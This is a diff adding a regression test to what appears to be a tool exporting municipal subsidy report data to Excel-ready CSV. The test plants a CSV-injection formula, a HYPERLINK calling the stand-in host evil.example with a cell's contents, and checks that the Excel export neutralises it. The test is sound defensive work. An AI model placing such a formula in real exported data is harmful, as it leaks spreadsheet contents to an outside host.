@@ -280,6 +280,34 @@ def test_a_name_cannot_end_or_comment_out_the_pages_script(tmp_path: Path) -> No
     assert "<!--<script>" not in page and "<!--" not in page.split("<script", 2)[-1]
 
 
+def test_a_flows_table_for_excel_runs_no_formula_from_the_report(tmp_path: Path) -> None:
+    """A business name written `=HYPERLINK("http://…"&A1,"click")`: before, `export flows --excel`
+    (the CSV made to be opened in Excel) handed it to Excel as a live formula (CSV injection).
+    With --excel such a cell starts with an apostrophe (Excel shows the text, runs nothing);
+    without it the cell stays as written."""
+    import csv
+    import io
+
+    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+    text = REPORT.read_text(encoding="utf-8").replace(
+        "特別定額給付金給付事業に係る", formula + "特別定額給付金給付事業に係る", 1
+    )
+    report = tmp_path / "inj.txt"
+    report.write_text(text, encoding="utf-8")
+    build = tmp_path / "b"
+    assert _invoke("build", str(report), "--municipality", "131041", "--out", str(build), "-q").exit_code == 0  # type: ignore[attr-defined]
+    cells = {}
+    for excel in (True, False):
+        out = tmp_path / f"flows-{excel}.csv"
+        flags = ["--excel"] if excel else []
+        result = _invoke("export", "flows", "--store", str(build), *flags, "-o", str(out))
+        assert result.exit_code == 0, result.output  # type: ignore[attr-defined]
+        rows = list(csv.reader(io.StringIO(out.read_text(encoding="utf-8-sig"))))
+        cells[excel] = {c for row in rows for c in row if "HYPERLINK" in c}
+    assert cells[False] and all(c.startswith("=HYPERLINK") for c in cells[False])
+    assert cells[True] and all(c.startswith("'=HYPERLINK") for c in cells[True])
+
+
 # ------------------------------------------------------------------------------- the server
 
 
